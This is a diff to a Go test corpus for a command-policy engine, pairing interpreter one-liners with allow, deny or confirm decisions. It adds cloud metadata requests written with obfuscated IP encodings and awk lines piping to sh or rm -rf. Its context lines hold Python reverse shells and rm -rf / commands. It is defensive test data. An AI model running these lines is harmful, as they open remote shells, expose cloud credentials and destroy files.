@@ -3,8 +3,9 @@ package policy
 // codeCorpus: code typed into REPLs, one-liners handed to interpreters,
 // SQL typed into database clients and interactive programs' shell
 // escapes, with the decision the default bundle must reach. Benign
-// look-alikes must stay allowed. TestCorpus judges it, and BenchmarkDecide
-// measures decisions over it with the shell corpus.
+// look-alikes must stay allowed. TestCorpus judges it; BenchmarkDecide
+// measures decisions over it with the shell corpus, and
+// BenchmarkDecideCorpus with testdata/corpus.
 var codeCorpus = []struct {
 	program, text, action, rule string
 }{
@@ -69,6 +70,15 @@ var codeCorpus = []struct {
 	{"python3", `import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`, "deny", "code.reverse_shell"},
 	{"python3", `s=socket.socket();s.connect(("h",1));subprocess.call(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno())`, "deny", "code.reverse_shell"},
 	{"python3", `s = socket.create_connection(("example.org", 80))`, "allow", ""},
+	// The cloud metadata service, on the hosts code names
+	{"python3", `import urllib.request; urllib.request.urlopen("http://2852039166/latest/meta-data/")`, "deny", "net.cloud_metadata"},
+	{"python3", `import socket; s = socket.create_connection(("169.254.169.254", 80))`, "deny", "net.cloud_metadata"},
+	{"python3", "# it's the host\nimport socket; socket.create_connection(('0xa9fea9fe', 80))", "deny", "net.cloud_metadata"},
+	{"node", `fetch("http://[::ffff:a9fe:a9fe]/latest")`, "deny", "net.cloud_metadata"},
+	{"node", `require("http").get({host: "metadata.google.internal", path: "/computeMetadata/v1/"})`, "deny", "net.cloud_metadata"},
+	{"python3", `print("the metadata service lives at 169.254.169.254")`, "allow", ""},
+	{"python3", `requests.get("https://example.org/docs/169.254.169.254")`, "allow", ""},
+	{"python3", `meta = {"metadata": 1, "version": "3.11"}`, "allow", ""},
 	// Python: look-alikes and unfinished lines
 	{"python3", `print('rm -rf /')`, "allow", ""},
 	{"python3", `print(f"os.system('rm -rf {x}')")`, "allow", ""},
@@ -144,6 +154,10 @@ var codeCorpus = []struct {
 	{"bash", `awk 'BEGIN{"rm -rf /" | getline}'`, "deny", "fs.rm_protected"},
 	{"bash", `awk '{print | "sh"}' cmds.txt`, "confirm", "rce.pipe_to_interpreter"},
 	{"bash", `awk '{print $1}' file.txt`, "allow", ""},
+	{"bash", `awk '$1 > 10 || $2 > 5 {print}' data`, "allow", ""},
+	{"bash", `awk '$1 ~ /GET|POST/ {n++} END {print n}' access.log`, "allow", ""},
+	{"bash", `awk '/a|b/ {print $1/2 | "sh"}' f`, "confirm", "rce.pipe_to_interpreter"},
+	{"bash", `awk '{x = $1/2; print x | "rm -rf ~"}' f`, "deny", "fs.rm_protected"},
 	{"bash", `php -r 'system("rm -rf /");'`, "deny", "fs.rm_protected"},
 	{"perl", `system("rm -rf /")`, "deny", "fs.rm_protected"},
 	{"irb", "`rm -rf ~`", "deny", "fs.rm_protected"},
